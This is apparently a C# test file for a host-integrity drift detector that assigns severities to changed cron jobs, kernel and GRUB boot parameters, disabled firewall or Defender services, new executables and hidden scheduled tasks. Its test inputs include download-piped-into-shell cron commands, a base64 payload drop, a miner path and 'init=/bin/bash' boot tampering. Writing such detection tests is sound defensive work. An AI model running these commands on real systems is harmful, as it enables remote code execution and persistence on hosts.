using Tenantra.Agent.Contracts;
using Tenantra.Core.Integrity;
using Tenantra.Core.Notifications;

namespace Tenantra.Core.Tests.Integrity;

public sealed class DriftEvaluationTests
{
    private static SnapshotEntry Entry(string kind, string key, params (string Name, string? Value)[] fields) =>
        new(kind, key, fields.ToDictionary(f => f.Name, f => f.Value, StringComparer.Ordinal));

    private static List<DriftFinding> Evaluate(string category, IReadOnlyList<SnapshotEntry> before, IReadOnlyList<SnapshotEntry> after, Suppressions? suppressions = null, SeverityRuleSet? rules = null) =>
        DriftEvaluation.Evaluate(IntegrityPolicies.For(category)!, before, after, suppressions ?? Suppressions.None, rules ?? SeverityRuleSet.Shipped);

    private static readonly SnapshotEntry s_cron = Entry("cron-entry", "/etc/crontab:17 * * * * root run-parts /etc/cron.hourly",
        ("source", "/etc/crontab"), ("schedule", "17 * * * *"), ("user", "root"), ("command", "cd / && run-parts --report /etc/cron.hourly"));

    [Theory]
    [InlineData("curl -fsSL http://203.0.113.9/x.sh | sh", NotificationSeverity.Critical, "download-into-shell")]
    [InlineData("wget -qO- https://example.net/i | sudo bash", NotificationSeverity.Critical, "download-into-shell")]
    [InlineData("echo aGVsbG8K | base64 -d > /usr/local/bin/h", NotificationSeverity.Critical, "download-into-shell")]
    [InlineData("/tmp/.x/miner --quiet", NotificationSeverity.High, "user-writable-path-linux")]
    [InlineData("/usr/sbin/logrotate /etc/logrotate.conf", NotificationSeverity.Low, null)]
    public void A_new_cron_line_is_judged_by_its_command(string command, NotificationSeverity severity, string? rule)
    {
        var added = Entry("cron-entry", "/etc/cron.d/job:x", ("source", "/etc/cron.d/job"), ("user", "root"), ("command", command));

        var finding = Assert.Single(Evaluate(SnapshotCategories.Scheduled, [s_cron], [s_cron, added]));

        Assert.Equal(EntryChangeKind.Added, finding.Change.Change);
        Assert.Equal(severity, finding.Severity);
        Assert.Equal(rule, finding.RuleKeys.Count > 0 ? finding.RuleKeys[0] : null);
    }

    [Fact]
    public void The_kernel_command_line_gaining_init_is_critical_but_keeping_an_existing_rdinit_is_not()
    {
        var before = Entry("kernel-cmdline", "cmdline", ("value", "quiet rdinit=/process_api"), ("parameters", "quiet\nrdinit=/process_api"));
        var gained = Entry("kernel-cmdline", "cmdline", ("value", "quiet rdinit=/process_api init=/bin/bash"), ("parameters", "quiet\nrdinit=/process_api\ninit=/bin/bash"));
        var other = Entry("kernel-cmdline", "cmdline", ("value", "quiet rdinit=/process_api splash"), ("parameters", "quiet\nrdinit=/process_api\nsplash"));

        Assert.Equal(NotificationSeverity.Critical, Assert.Single(Evaluate(SnapshotCategories.Boot, [before], [gained])).Severity);
        var harmless = Assert.Single(Evaluate(SnapshotCategories.Boot, [before], [other]));
        Assert.Equal(NotificationSeverity.Medium, harmless.Severity);
        Assert.Equal(["boot-chain-changed"], harmless.RuleKeys);
    }

    [Fact]
    public void A_grub_setting_change_is_high_and_gaining_init_there_is_critical()
    {
        var before = Entry("grub-setting", "GRUB_CMDLINE_LINUX_DEFAULT", ("value", "quiet"), ("source", "/etc/default/grub"));
        var timeout = Entry("grub-setting", "GRUB_TIMEOUT", ("value", "5"), ("source", "/etc/default/grub"));

        var changed = Evaluate(SnapshotCategories.Boot, [before, timeout], [before, timeout with { Fields = new Dictionary<string, string?> { ["value"] = "0", ["source"] = "/etc/default/grub" } }]);
        var init = Evaluate(SnapshotCategories.Boot, [before], [before with { Fields = new Dictionary<string, string?> { ["value"] = "quiet init=/bin/sh", ["source"] = "/etc/default/grub" } }]);

        Assert.Equal(NotificationSeverity.High, Assert.Single(changed).Severity);
        Assert.Equal(NotificationSeverity.Critical, Assert.Single(init).Severity);
    }

    [Fact]
    public void A_unit_stopping_is_quiet_unless_it_is_a_firewall()
    {
        var nginx = Entry("systemd-unit", "nginx.service", ("enabled", "enabled"), ("active", "active"), ("sub", "running"));
        var ufw = Entry("systemd-unit", "ufw.service", ("enabled", "enabled"), ("active", "active"), ("sub", "exited"));
        var stopped = new[] { nginx with { Fields = new Dictionary<string, string?> { ["enabled"] = "enabled", ["active"] = "inactive", ["sub"] = "dead" } },
            ufw with { Fields = new Dictionary<string, string?> { ["enabled"] = "enabled", ["active"] = "inactive", ["sub"] = "dead" } } };

        var finding = Assert.Single(Evaluate(SnapshotCategories.Services, [nginx, ufw], stopped));

        Assert.Equal("ufw.service", finding.Change.Key);
        Assert.Equal(NotificationSeverity.High, finding.Severity);
        Assert.Equal("security-unit-disabled", finding.RuleKeys[0]);
        Assert.Equal(["active", "sub"], finding.Change.Fields.Select(f => f.Name).Order());
    }

    [Fact]
    public void Executables_that_stop_running_are_not_drift_but_a_new_hash_and_a_new_path_are()
    {
        var bash = Entry("executable", "/usr/bin/bash", ("sha256", "aa"));
        var sshd = Entry("executable", "/usr/sbin/sshd", ("sha256", "bb"));
        var process = Entry("process", "42", ("pid", "42"), ("executable", "/usr/bin/bash"));

        var findings = Evaluate(SnapshotCategories.Processes, [bash, sshd, process],
            [bash with { Fields = new Dictionary<string, string?> { ["sha256"] = "cc" } }, Entry("executable", "/dev/shm/kworker", ("sha256", "dd")), Entry("process", "43", ("pid", "43"))]);

        Assert.Equal(2, findings.Count);
        Assert.Equal(EntryChangeKind.Modified, findings.Single(f => f.Change.Key == "/usr/bin/bash").Change.Change);
        Assert.Equal(NotificationSeverity.High, findings.Single(f => f.Change.Key == "/dev/shm/kworker").Severity);
    }

    [Fact]
    public void Suppressions_drop_whole_entries_by_glob_or_only_one_field()
    {
        var asset = Guid.NewGuid();
        var unit = Entry("systemd-unit", "apt-daily.service", ("sha256", "1"), ("ExecStart", "/usr/lib/apt/apt.systemd.daily"));
        var other = Entry("systemd-unit", "snapd.service", ("sha256", "1"), ("ExecStart", "/usr/lib/snapd/snapd"));
        var changed = new[]
        {
            unit with { Fields = new Dictionary<string, string?> { ["sha256"] = "2", ["ExecStart"] = "/usr/lib/apt/apt.systemd.daily" } },
            other with { Fields = new Dictionary<string, string?> { ["sha256"] = "2", ["ExecStart"] = "/usr/lib/snapd/snapd --debug" } },
        };
        var byGlob = new Suppressions([new IntegritySuppression { TenantId = Guid.Empty, KeyPattern = "apt-*.service", Comment = "updates" }], asset, SnapshotCategories.Services);
        var byField = new Suppressions([new IntegritySuppression { TenantId = Guid.Empty, KeyPattern = "*", Field = "sha256", Comment = "package updates" }], asset, SnapshotCategories.Services);
        var otherAsset = new Suppressions([new IntegritySuppression { TenantId = Guid.Empty, AssetId = Guid.NewGuid(), KeyPattern = "*", Comment = "x" }], asset, SnapshotCategories.Services);

        Assert.Equal(["snapd.service"], Evaluate(SnapshotCategories.Services, [unit, other], changed, byGlob).Select(f => f.Change.Key));
        var left = Assert.Single(Evaluate(SnapshotCategories.Services, [unit, other], changed, byField));
        Assert.Equal("snapd.service", left.Change.Key);
        Assert.Equal(["ExecStart"], left.Change.Fields.Select(f => f.Name));
        Assert.Equal(2, Evaluate(SnapshotCategories.Services, [unit, other], changed, otherAsset).Count);
    }

    [Fact]
    public void A_tenant_can_lower_or_switch_off_a_shipped_rule_and_add_its_own()
    {
        var added = Entry("cron-entry", "/etc/cron.d/backup:x", ("command", "curl -s https://backup.example/run | sh"));
        var rules = SeverityRuleSet.For(
        [
            new IntegrityRule { TenantId = Guid.Empty, Key = "download-into-shell", Title = "", Severity = NotificationSeverity.Medium },
            new IntegrityRule
            {
                TenantId = Guid.Empty, Key = "backup-jobs", Title = "Backup jobs", Severity = NotificationSeverity.Info,
                MatchJson = """{"kinds":["cron-entry"],"changes":["added"],"keyPattern":"^/etc/cron\\.d/backup:"}""",
            },
        ]);
        var off = SeverityRuleSet.For([new IntegrityRule { TenantId = Guid.Empty, Key = "download-into-shell", Title = "", Severity = NotificationSeverity.Critical, Enabled = false }]);

        var lowered = Assert.Single(Evaluate(SnapshotCategories.Scheduled, [], [added], rules: rules));
        Assert.Equal(NotificationSeverity.Medium, lowered.Severity);
        Assert.Equal(["download-into-shell", "backup-jobs"], lowered.RuleKeys);
        var unmatched = Assert.Single(Evaluate(SnapshotCategories.Scheduled, [], [added], rules: off));
        Assert.Equal(NotificationSeverity.Low, unmatched.Severity);
        Assert.Empty(unmatched.RuleKeys);
    }

    [Fact]
    public void A_new_hidden_task_running_as_system_is_high_but_a_visible_one_is_not()
    {
        var hidden = Entry("scheduled-task", @"\Microsoft\Windows\SvcHealthCheck", ("hidden", "true"), ("userId", "S-1-5-18"), ("actions", @"exec C:\Windows\System32\svchost.exe"));
        var visible = Entry("scheduled-task", @"\Backup", ("hidden", "false"), ("userId", "S-1-5-18"), ("actions", @"exec C:\Program Files\Backup\run.exe"));

        var findings = Evaluate(SnapshotCategories.Scheduled, [], [hidden, visible]).ToDictionary(f => f.Change.Key);

        Assert.Equal(NotificationSeverity.High, findings[@"\Microsoft\Windows\SvcHealthCheck"].Severity);
        Assert.Equal(NotificationSeverity.Low, findings[@"\Backup"].Severity);
    }

    [Fact]
    public void A_disabled_defender_service_is_high()
    {
        var defender = Entry("windows-service", "WinDefend", ("startType", "auto"), ("imagePath", @"""C:\ProgramData\Microsoft\Windows Defender\platform\MsMpEng.exe"""));
        var disabled = defender with { Fields = new Dictionary<string, string?>(defender.Fields) { ["startType"] = "disabled" } };

        var finding = Assert.Single(Evaluate(SnapshotCategories.Services, [defender], [disabled]));

        Assert.Equal(NotificationSeverity.High, finding.Severity);
        Assert.Equal("security-service-disabled", finding.RuleKeys[0]);
    }
}
